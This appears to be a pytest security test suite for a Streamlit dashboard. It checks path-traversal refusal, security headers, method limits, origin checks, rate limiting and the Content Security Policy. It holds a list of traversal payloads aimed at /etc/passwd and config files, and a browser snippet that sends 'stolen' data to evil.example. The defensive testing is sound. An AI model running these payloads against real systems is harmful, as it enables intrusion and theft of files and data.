"""A running server, asked for what it must not give: other files, other methods, other origins, other frames."""

from __future__ import annotations

import http.client
import http.server
import json
import os
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import urlsplit

import pytest
from atlas_page import open_atlas
from playwright.sync_api import Browser, Page, expect
from servers import ROOT, Server, free_port, health, serve_product
from waiting import poll, poll_equal, resting_box

from dashboard.views.embedding import LEAST_HEIGHT, frame_code

SECRET = re.compile(rb"root:.*:0:0:|streamlit==|\[server\]|from __future__|enableXsrfProtection")
"""What stands in /etc/passwd, requirements.txt, config.toml and our own modules."""
ROUTES = (
    "/assets/{digest}/", "/assets/x/", "/assets/", "/bundle/{stamp}/", "/bundle/x/", "/feeds/", "/api/v1/",
    "/api/", "/present/", "/present/x/",
    "/static/", "/app/static/", "/media/", "/component/", "/_stcore/", "/_stcore/bidi-components/",
    "/_stcore/upload_file/", "/vendor/", "/",
)  # fmt: skip
CLIMBS = (
    "../../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252f..%252fetc%252fpasswd", "....//....//....//etc/passwd", "..\\..\\..\\etc\\passwd",
    "..%5c..%5c..%5cetc%5cpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/etc/passwd", "%2fetc%2fpasswd", "//etc/passwd",
    "file:///etc/passwd", "../requirements.txt",
    "../../requirements.txt", "../../../requirements.txt", "../.streamlit/config.toml",
    "../../dashboard/.streamlit/config.toml",
    "../../.streamlit/config.toml", "../../dashboard/app.py",
    "app.py", "../app.py", "..", ".", ".git/config", "../.git/config", "..%00/etc/passwd",
    "europe.geojson%00.css", "parts.mjs/../../../app.py",
)  # fmt: skip


def request(
    server: Server, path: str, method: str = "GET", headers: dict[str, str] | None = None, body: bytes | None = None
) -> tuple[int, dict[str, str], bytes]:
    """The answer to a path sent as it is: nothing is tidied on the way, nothing followed."""
    at = urlsplit(server.url)
    connection = http.client.HTTPConnection(str(at.hostname), at.port, timeout=20)
    try:
        connection.putrequest(method, path, skip_accept_encoding=True)
        for key, value in (headers or {}).items():
            connection.putheader(key, value)
        if body is not None:
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders(body)
        answer = connection.getresponse()
        return answer.status, {key.lower(): value for key, value in answer.getheaders()}, answer.read()
    finally:
        connection.close()


@pytest.fixture(scope="module")
def address_parts(server: Server) -> dict[str, str]:
    """What addresses are made of."""
    health = json.loads(request(server, "/health")[2])
    digest = str(health["assets"])
    page = request(server, f"/assets/{digest}/store.mjs")
    assert page[0] == 200
    return {"digest": digest, "stamp": "0" * 16}


@pytest.mark.parametrize("route", ROUTES)
def test_nothing_outside_is_reached(server: Server, address_parts: dict[str, str], route: str) -> None:
    for climb in CLIMBS:
        path = route.format(**address_parts) + climb
        status, headers, body = request(server, path)
        assert not SECRET.search(body), path
        assert status < 500, (path, status)
        assert "x-content-type-options" in headers, path
        if status == 200:  # Streamlit answers any unknown page with the page that draws it
            assert b"<title>European Security Shifts</title>" in body or b"<!doctype html" in body[:200].lower(), (
                path,
                body[:80],
            )


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/events",
        "/health",
        "/assets/{digest}/store.mjs",
        "/assets/{digest}/none",
        "/bundle/{stamp}/apmbc.json",
        "/bundle/x/none.json",
        "/api/v1/status?instrument=apmbc",
        "/api/v1/none",
        "/api/v1/export?format=svg",
        "/api/v1/export?format=gif",
        "/feeds/changes.atom",
        "/_stcore/health",
        "/nowhere/at/all",
        "/favicon.png",
    ],
)
def test_every_answer_carries_the_headers(server: Server, address_parts: dict[str, str], path: str) -> None:
    _, headers, _ = request(server, path.format(**address_parts))
    policy = headers["content-security-policy"]
    assert "http" not in policy
    assert "ws:" not in policy
    assert "*" not in policy
    assert "frame-ancestors 'self'" in policy
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-frame-options"] == "SAMEORIGIN"
    assert "set-cookie" not in headers or "samesite" in headers["set-cookie"].lower()


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "FOO"])
def test_the_open_routes_only_read(server: Server, address_parts: dict[str, str], method: str) -> None:
    for path in (
        "/health",
        "/assets/{digest}/store.mjs",
        "/bundle/x/apmbc.json",
        "/api/v1/status?instrument=apmbc",
        "/api/v1/export?format=svg",
        "/feeds/changes.atom",
    ):
        status, headers, body = request(server, path.format(**address_parts), method, body=b"x=1")
        assert status in (400, 404, 405, 501), (method, path, status)
        asked = method == "OPTIONS" and path.startswith(("/api", "/feeds", "/bundle"))  # what others may read
        assert headers.get("access-control-allow-origin") == ("*" if asked else None)
        assert "access-control-allow-credentials" not in headers
        assert b"Traceback" not in body


def test_uploads_need_a_token_and_stay_small(server: Server) -> None:
    for body in (b"", b"a" * 1000):
        status, _, said = request(server, "/_stcore/upload_file/none/none", "PUT", {"Content-Type": "text/csv"}, body)
        assert status in (400, 403), (status, said[:200])
    settings = (ROOT / "dashboard" / ".streamlit" / "config.toml").read_text(encoding="utf-8")
    assert "maxUploadSize = 10" in settings


def test_the_agents_door_is_shut(server: Server) -> None:
    for path in ("/_stcore/agent/interact", "/_stcore/agent/mcp"):
        status, _, body = request(server, path, "POST", {"Content-Type": "application/json"}, b"{}")
        assert status in (400, 403, 404), (path, status)
        assert b"enableAgentApi" in body, "it says that it is off"


def test_a_socket_of_another_origin_is_refused(server: Server) -> None:
    upgrade = {
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
    }
    status, _, _ = request(server, "/_stcore/stream", headers=upgrade | {"Origin": "https://evil.example"})
    assert status == 403


OTHER_SETTINGS = {
    "ESS_API_PER_MINUTE": "1",
    "ESS_API_BURST": "5",
    "ESS_FRAME_ANCESTORS": "https://news.example",
    "TZ": "Pacific/Kiritimati",
    "LC_ALL": "C",
    "LANG": "C",
}
"""A newsroom at the other end of the world that lets each client ask five times, and once a minute from then on."""


@contextmanager
def newspaper(port: int) -> Iterator[list[bytes]]:
    """Another origin on this port, that answers everything with the last page put into the list."""
    pages: list[bytes] = []

    class Paper(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # named by http.server
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(pages[-1])

        def log_message(self, *words: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", port), Paper) as serving:
        thread = threading.Thread(target=serving.serve_forever)
        thread.start()
        yield pages
        serving.shutdown()
        thread.join()


def test_a_server_of_other_settings(server: Server, browser: Browser, subtests: pytest.Subtests) -> None:
    status = "/api/v1/status?instrument=apmbc"
    port = free_port()
    paper = f"http://localhost:{port}"
    with serve_product(environment=OTHER_SETTINGS | {"ESS_EMBED_ANCESTORS": paper}) as other, newspaper(port) as pages:
        with subtests.test("another zone of time says the same"):
            assert request(other, status)[2] == request(server, status)[2]
            assert health(other.url)["as_of"] == health(server.url)["as_of"]
        with subtests.test("a named host may embed"):
            _, headers, _ = request(other, "/")
            assert "frame-ancestors 'self' https://news.example;" in headers["content-security-policy"]
            assert "x-frame-options" not in headers
        with subtests.test("its article holds the view, which tells its height and keeps nothing"):
            src = f"{other.url}/embed?instrument=apmbc&as_of=2025-07-12"
            pages.append(frame_code(src, "The view").encode())
            page = browser.new_page()
            page.goto(paper)
            expect(page.frame_locator("iframe").get_by_text("12 July 2025: 46 of 51 States are bound")).to_be_visible()
            poll(page, "document.querySelector('iframe').offsetHeight", lambda height: 500 < height < 800)
            assert page.context.cookies() == []
            page.close()
        with subtests.test("too many requests are refused and pages still served"):
            assert [request(other, status)[0] for _ in range(5)] == [200, 200, 200, 429, 429]
            code, headers, body = request(other, "/feeds/changes.atom", headers={"X-Forwarded-For": "203.0.113.7"})
            assert code == 429, "a header of the client's own buys nothing"
            assert int(headers["retry-after"]) >= 1
            assert json.loads(body)["error"]
            assert headers["x-content-type-options"] == "nosniff"
            assert request(other, "/health")[0] == 200
            assert request(other, "/")[0] == 200
            assert request(other, "/api/v1/status?q=" + "a" * 9000)[0] == 414
        with subtests.test("without scripts it keeps a ratio where that cuts nothing"):
            page = browser.new_page(java_script_enabled=False)
            page.goto(paper)
            for window, size in ((1000, (640, 800)), (390, (374, LEAST_HEIGHT))):
                page.set_viewport_size({"width": window, "height": 900})
                box = resting_box(page.locator("iframe"))
                assert (box["width"], box["height"]) == size
            page.close()


def test_a_setting_that_would_open_the_policy_stops_the_start() -> None:
    """One real start; every setting that must be refused is given to the function in tests/server."""
    with (
        pytest.raises(RuntimeError, match="ESS_FRAME_ANCESTORS"),
        serve_product(environment={"ESS_FRAME_ANCESTORS": "https://example.org; script-src *"}),
    ):
        pass


def test_nothing_is_told_to_anyone_and_the_policy_stops_what_a_script_would_send_out(
    page: Page, guard: Any, subtests: pytest.Subtests
) -> None:
    """No telemetry, no cookie beyond the token against forged requests; the guard fails on any other host."""
    open_atlas(page)
    with subtests.test("nothing is told to anyone"):
        assert {one["name"] for one in page.context.cookies()} <= {"_streamlit_xsrf"}
        stored = page.evaluate("JSON.stringify([Object.keys(localStorage), Object.keys(sessionStorage)])")
        assert not re.search(r"token|secret|user", stored, re.IGNORECASE)
        assert not guard.outside
        assert not guard.errors
        assert os.environ.get("STREAMLIT_BROWSER_GATHER_USAGE_STATS", "false").lower() != "true"
    guard.expected += ["Content Security Policy", "Failed to fetch", "Fetch API cannot load"]
    with subtests.test("a request, a socket and a picture to another host are stopped before they leave"):
        page.evaluate(
            """async () => {
                const told = window.essTold = [];
                document.addEventListener("securitypolicyviolation", (one) => told.push(one.effectiveDirective));
                try { await fetch("https://evil.example/?stolen=1"); } catch {}
                try { new WebSocket("wss://evil.example/"); } catch {}
                await new Promise((done) => { const picture = new Image(); picture.onerror = done;
                    picture.src = "https://evil.example/a.png"; });
            }"""
        )
        poll_equal(page, "window.essTold.toSorted()", ["connect-src", "connect-src", "img-src"])
        guard.outside[:] = [one for one in guard.outside if not one.startswith("https://evil.example/")]
